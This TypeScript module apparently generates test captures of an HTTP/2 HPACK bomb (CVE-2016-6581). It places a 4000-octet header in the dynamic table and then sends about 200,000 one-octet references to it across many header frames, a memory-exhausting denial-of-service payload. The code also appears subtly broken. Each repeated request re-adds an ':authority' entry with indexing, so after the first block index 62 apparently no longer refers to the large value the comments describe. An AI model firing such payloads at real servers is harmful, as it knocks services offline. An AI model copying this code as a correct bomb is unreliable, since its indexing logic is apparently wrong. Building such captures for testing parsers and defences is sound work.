/**
 * HPACK bombs (cf. CVE-2016-6581) as whole captures: one large literal added to the dynamic table
 * (RFC 7541 §6.2.1), then header blocks of nothing but one-octet references to it (§6.1, index 62).
 */
import { frame, setting } from '../h2/frame-bytes.js';
import { PREFACE, tcpCapture } from './tcp-capture.js';

/** §5.1 integer with an N-bit prefix after `first`'s high bits. */
function hpackInt(first: number, prefixBits: number, n: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (n < max) return [first | n];
  const out = [first | max];
  let rest = n - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

/** §6.2.1 literal with incremental indexing and a new name, both plain (not Huffman) strings. */
export function literalIndexed(name: Buffer, value: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from([0x40, ...hpackInt(0, 7, name.length)]),
    name,
    Buffer.from(hpackInt(0, 7, value.length)),
    value,
  ]);
}

export interface BombOptions {
  /** The entry's value (default 4000 'a's: it fits the default 4096-octet table). */
  value?: Buffer;
  /** References to it in all (default 200,000). */
  references?: number;
  /** References per header block (default 16,000: a block fits one 16 KiB frame). */
  perBlock?: number;
}

export function hpackBombCapture(opts: BombOptions = {}): Buffer {
  const value = opts.value ?? Buffer.alloc(4000, 'a');
  const total = opts.references ?? 200_000;
  const perBlock = opts.perBlock ?? 16_000;
  const frames: Buffer[] = [PREFACE, frame(0x4, 0, 0, setting(0x4, 65535))];
  // A plain request whose last field puts the large entry into the table.
  const request = Buffer.from([0x83, 0x86, 0x84, 0x41, 0x01, 0x78]); // POST, http, /, :authority "x"
  frames.push(frame(0x1, 0x5, 1, Buffer.concat([request, literalIndexed(Buffer.from('x-big'), value)])));
  let stream = 3;
  for (let done = 0; done < total; done += perBlock) {
    const refs = Buffer.alloc(Math.min(perBlock, total - done), 0xbe); // indexed, index 62
    frames.push(frame(0x1, 0x5, stream, Buffer.concat([request, refs])));
    stream += 2;
  }
  return tcpCapture([
    { from: 'client', data: Buffer.concat(frames) },
    { from: 'server', data: frame(0x4, 0, 0) },
  ]);
}
